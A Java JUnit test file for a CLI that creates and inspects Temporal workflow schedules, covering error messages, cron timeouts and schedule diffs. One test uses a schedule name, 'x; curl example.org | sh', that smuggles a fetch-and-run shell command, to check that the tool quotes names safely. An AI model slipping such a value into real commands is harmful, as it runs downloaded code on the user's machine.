package dev.twinline.starter;

import static org.assertj.core.api.Assertions.assertThat;

import dev.twinline.workflows.model.ContactCenterName;
import dev.twinline.workflows.model.ScheduleEntry;
import io.temporal.client.schedules.Schedule;
import io.temporal.client.schedules.ScheduleActionStartWorkflow;
import io.temporal.client.schedules.ScheduleState;
import java.time.Duration;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What can be told without a server that keeps schedules; the rest is tried on a real one. */
@Timeout(60)
class ScheduleCommandTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "schedule create acme",
        "schedule list acme",
        "schedule describe acme hourly-readiness",
        "schedule pause acme hourly-readiness",
        "schedule unpause acme",
        "schedule trigger acme",
        "schedule delete acme hourly-readiness"
      })
  void aServerWithoutSchedulesIsNamedAsSuch(String command) {
    try (Stage stage = Stage.withoutWorker()) {
      Said said = stage.run(command.split(" "));

      said.endedWith(ExitCode.NO_TEMPORAL);
      assertThat(said.err())
          .isEqualTo(
              "twinline: this server keeps no schedules (UNIMPLEMENTED); a real one does: twinline"
                  + " dev, or temporal server start-dev\n");
    }
  }

  @Test
  void aFileThatIsNotThereIsNotApplied() {
    Said.alone("schedule", "create", "globex").endedWith(ExitCode.NOT_FOUND);
  }

  @Test
  void withoutASubCommandItPointsToThem() {
    assertThat(Said.alone("schedule").endedWith(ExitCode.USAGE).err())
        .contains("twinline schedule create, list, describe");
    assertThat(Said.alone("schedule", "--help").out()).contains("trigger", "Example:");
  }

  /** A run that is paused, or finds no worker, must be over before the next is due. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "0 * * * *    | 0   | 300",
        "*/2 * * * *  | 0   | 108",
        "*/2 * * * *  | 30  | 81",
        "* * * * *    | 0   | 54",
        "0 0 * * *    | 600 | 300"
      })
  void aRunIsOverBeforeTheNextIsDue(String cron, int jitter, int seconds) {
    assertThat(action(schedule(entry(cron, Duration.ofSeconds(jitter)))).getWorkflowRunTimeout())
        .isEqualTo(Duration.ofSeconds(seconds));
  }

  @Test
  void whatIsReadBackCanBeReadAtAll() {
    var options = action(schedule(entry("0 * * * *", Duration.ZERO)));

    assertThat(options.getStaticSummary()).isEqualTo("Check the readiness of acme: hourly");
    assertThat(options.getStaticDetails()).contains("twinline schedule describe acme hourly");
    assertThat(options.getWorkflowId()).isEqualTo("readiness/acme/hourly");
  }

  @Test
  void cronAndCalendarThatMeanTheSameAreTheSame() {
    ScheduleEntry byCron = entry("30 9-17/2 * * MON-FRI", Duration.ZERO);
    ScheduleEntry byCalendar =
        new ScheduleEntry(
            byCron.name(),
            byCron.run(),
            Optional.empty(),
            Optional.of(new ScheduleEntry.CalendarTimes("30", "9-17/2", "*", "*", "1-5")),
            byCron.timeZone(),
            byCron.jitter(),
            byCron.overlap(),
            byCron.catchUp(),
            byCron.pauseOnFailure());

    ScheduleTraits one = ScheduleTraits.of(schedule(byCron));
    ScheduleTraits other = ScheduleTraits.of(schedule(byCalendar));

    assertThat(one).isEqualTo(other);
    assertThat(one.when()).isEqualTo("30 9-17/2 * * 1-5");
    assertThat(one.inWords().orElseThrow())
        .isEqualTo("at minute 30 of hour 9 to 17 in steps of 2, on Monday to Friday");
  }

  @Test
  void whatDiffersIsSaidByName() {
    ScheduleTraits hourly = ScheduleTraits.of(schedule(entry("0 * * * *", Duration.ZERO)));
    ScheduleTraits often =
        ScheduleTraits.of(schedule(entry("*/2 * * * *", Duration.ofSeconds(30))));

    assertThat(hourly.changesTo(often))
        .containsExactly(
            "run timeout from 5m to 1m21s",
            "times from 0 * * * * to */2 * * * *",
            "jitter from 0s to 30s");
  }

  @Test
  void aCommandAboutAScheduleThatSomebodyNamedAsTheyLikedIsSafeToPaste() {
    assertThat(Schedules.wordsFor("acme", "hourly-readiness")).isEqualTo("acme hourly-readiness");
    assertThat(Schedules.wordsFor("acme", "x; curl example.org | sh"))
        .isEqualTo("acme 'x; curl example.org | sh'");
  }

  private static io.temporal.client.WorkflowOptions action(Schedule schedule) {
    return ((ScheduleActionStartWorkflow) schedule.getAction()).getOptions();
  }

  private static Schedule schedule(ScheduleEntry entry) {
    return new WantedSchedule(new ContactCenterName("acme"), entry)
        .schedule(ScheduleState.newBuilder().build());
  }

  private static ScheduleEntry entry(String cron, Duration jitter) {
    return new ScheduleEntry(
        "hourly",
        ScheduleEntry.Run.READINESS,
        Optional.of(cron),
        Optional.empty(),
        "UTC",
        jitter,
        ScheduleEntry.Overlap.SKIP,
        Duration.ofMinutes(10),
        false);
  }
}
